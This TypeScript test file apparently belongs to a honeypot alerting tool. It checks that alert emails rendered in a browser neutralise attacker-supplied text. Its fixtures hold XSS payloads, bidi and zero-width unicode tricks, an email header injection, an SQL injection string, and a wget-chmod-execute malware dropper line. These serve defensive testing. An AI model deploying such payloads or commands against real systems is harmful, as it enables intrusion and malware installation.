import { mkdirSync } from 'node:fs';
import { join } from 'node:path';
import type { Page } from 'playwright-core';
import { describe, expect, it } from 'vitest';
import { htmlOf } from '../../firmware/alerts/letter-html.ts';
import type { Letter } from '../../firmware/alerts/letter.ts';
import { messageAbout, summaryMessage } from '../../firmware/alerts/message.ts';
import { withHeld } from '../../firmware/alerts/overflow.ts';
import { NO_STORY, withEvent } from '../../firmware/alerts/story.ts';
import { trialMessage } from '../../firmware/alerts/trial.ts';
import type { Grade } from '../../firmware/core/grade.ts';
import type { Incident, NewMessage, Overflow } from '../../firmware/store/state.ts';
import { event, T0 } from '../alerts/rig.ts';
import { openTab } from './harness/browser.ts';
import { openLab } from './harness/lab.ts';

const lab = openLab();
const SETTING = { deviceName: 'closet-3', timeZone: 'Europe/Berlin', windowMs: 300_000, maxPerHour: 20 };
const A = '192.168.7.44';

/** Pictures to look at: SKEP_PICTURES names a folder that stays. */
function pictures(): string {
  const folder = process.env['SKEP_PICTURES'] ?? lab.folder();
  mkdirSync(folder, { recursive: true });
  return folder;
}

const HOSTILE = [
  'tried <script>document.title="mine";window.ran=1</script> / <img src=x onerror="window.ran=1">',
  'tried "><svg onload=window.ran=1> / </bdi></div><style>*{display:none}</style>',
  'tried user\u202egnp.exe / \u2066admin\u2069\u200b\u061c',
  `tried root / ${'A'.repeat(10_000)}`,
  'tried http://evil.example/x?y=1 / www.evil.example',
  'tried שלום / مرحبا בית 密码 пароль 🐝',
  'tried \u001b[2J\u0007\r\nBcc: all@example.org / x',
  "tried &lt;b&gt; &#x202e; &amp; / '; DROP TABLE event; --",
];

interface Told {
  readonly grade: Grade;
  readonly summary: string;
  readonly sensor?: string;
  readonly port?: number;
}

function incident(told: readonly Told[], more: Partial<Incident> = {}): Incident {
  const story = told.reduce((before, { grade, summary, sensor = 'ftp', port = 21 }, at) => {
    const session = withEvent(before, event(2 * at + 1, A, T0, { sensor, dstPort: port }), 'touch');
    return withEvent(
      session,
      event(2 * at + 2, A, T0 + at * 1500, { name: grade, sensor, summary, dstPort: port }),
      grade,
    );
  }, NO_STORY);
  const grade = told.at(-1)?.grade ?? 'touch';
  return {
    id: 12,
    source: A,
    startedAt: T0,
    lastAt: T0 + told.length * 1500,
    firstEvent: 4711,
    lastEvent: 4711 + 2 * told.length,
    events: 2 * told.length,
    grade,
    endedAt: null,
    tellAt: T0,
    told: null,
    heldAt: null,
    loud: grade,
    news: told.length,
    known: null,
    ignored: null,
    story,
    ...more,
  };
}

const login = (summary: string): Told => ({ grade: 'login', summary });
const MACHINE = {
  machineName: 'print\u202erecnirp.<b>lan</b>',
  machine: [
    { name: 'Name', lines: ['printer-3.office.lan (reverse DNS)'] },
    { name: 'Maker', lines: ['Hewlett Packard (MAC 00:11:22:aa:bb:cc)'] },
    { name: 'System', lines: ['Linux 3.11 and newer'] },
  ],
  ignore: { command: `skep ignore add ${A} --for 30d`, toml: ['[[alerts.ignore]]', `address = "${A}"`] },
};
const COMMANDS: readonly Told[] = [
  login('tried root / admin'),
  { grade: 'commands', summary: 'was let in as root', sensor: 'telnet', port: 23 },
  {
    grade: 'commands',
    summary: 'typed cd /tmp; wget http://198.51.100.7/arm7; chmod 777 arm7; ./arm7',
    sensor: 'telnet',
    port: 23,
  },
];
const BEFORE = { at: T0 + 2000, grade: 'login', connections: 1, counts: { login: 1 } } as const;

/** Each hostile text from a source of its own. */
const OVERFLOW = HOSTILE.map((text, at) =>
  incident([login(text)], { id: 20 + at, source: `192.168.7.${at}` }),
).reduce<Overflow | null>((all, one) => withHeld(all, one), null);

const MAILS: Readonly<Record<string, NewMessage>> = {
  first: messageAbout(
    'first',
    incident([login('tried admin / admin'), login('tried root / 123456')]),
    'email',
    SETTING,
    T0,
    MACHINE,
  ),
  hostile: messageAbout('first', incident(HOSTILE.map(login)), 'email', SETTING, T0, MACHINE),
  risen: messageAbout('risen', incident(COMMANDS), 'email', SETTING, T0, { ...MACHINE, before: BEFORE }),
  digest: messageAbout('digest', incident(COMMANDS, { endedAt: T0 }), 'email', SETTING, T0, {
    ...MACHINE,
    before: BEFORE,
  }),
  touch: messageAbout('first', incident([{ grade: 'touch', summary: 'connected' }]), 'email', SETTING, T0),
  summary: summaryMessage(OVERFLOW as Overflow, 'email', SETTING, T0),
  test: trialMessage('email', SETTING, T0, 'x'),
};

const htmlPart = ({ letter }: NewMessage): string => htmlOf(JSON.parse(letter ?? '') as Letter);
const textPart = ({ body, subject }: NewMessage): string =>
  `<!doctype html><meta charset="utf-8"><meta name="color-scheme" content="light dark"><meta name="viewport" content="width=device-width"><title>plain</title>` +
  `<pre style="white-space:pre-wrap;overflow-wrap:anywhere;font-size:14px">${`${subject}\n\n${body}`.replaceAll(/[&<>]/g, (char) => `&#${char.charCodeAt(0)};`)}</pre>`;

const OBEYED = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff]/u;
const WIDTHS = { desktop: 1000, phone: 360 } as const;

async function look(page: Page, html: string, name: string, folder: string): Promise<void> {
  for (const [device, width] of Object.entries(WIDTHS)) {
    for (const colorScheme of ['light', 'dark'] as const) {
      await page.setViewportSize({ width, height: 700 });
      await page.emulateMedia({ colorScheme });
      await page.setContent(html);
      const wide = await page.evaluate(() => document.documentElement.scrollWidth);
      expect(wide, `${name} is not wider than a ${device}`).toBeLessThanOrEqual(width);
      await page.screenshot({ path: join(folder, `${name}-${device}-${colorScheme}.png`), fullPage: true });
    }
  }
}

describe('a mail in a browser', () => {
  it('runs nothing, asks nobody and hides nothing, whatever a visitor wrote', async () => {
    const folder = pictures();
    const { page, complaints } = await openTab(lab, 'about:blank');
    const asked: string[] = [];
    await page.route('**/*', async (route) => {
      asked.push(route.request().url());
      await route.abort();
    });
    for (const [name, mail] of Object.entries(MAILS)) {
      const html = htmlPart(mail);
      expect(html.length, name).toBeLessThan(100_000);
      expect(html, name).not.toMatch(OBEYED);
      expect(mail.body, name).not.toMatch(OBEYED);
      expect(mail.subject, name).not.toMatch(OBEYED);
      await look(page, html, `${name}-html`, folder);
      const found = await page.evaluate(() => ({
        ran: 'ran' in globalThis,
        title: document.title,
        active: document.querySelectorAll('script, img, svg, iframe, object, embed, form, input, link, a, base, video')
          .length,
        handlers: [...document.querySelectorAll('*')]
          .flatMap((one) => one.getAttributeNames())
          .filter((key) => /^(on|src|href|action)/.test(key)),
        styles: document.querySelectorAll('style').length,
        text: document.body.innerText,
      }));
      expect(found, name).toMatchObject({ ran: false, title: '', active: 0, handlers: [], styles: 1 });
      if (name === 'hostile' || name === 'summary') {
        expect(found.text).toContain('tried <script>document[.]title="mine";window[.]ran=1</script>');
        expect(found.text).toContain(String.raw`user\u202egnp.exe`);
        expect(found.text).toContain('hxxp://evil[.]example/x?y=1 / www.evil[.]example');
        expect(found.text).toContain('&lt;b&gt; &#x202e; &amp;');
        expect(found.text).toMatch(/A{100,200}…/);
        expect(found.text).not.toMatch(/A{250}/);
      }
      await look(page, textPart(mail), `${name}-text`, folder);
    }
    expect(asked).toEqual([]);
    expect(complaints).toEqual([]);
  });
});
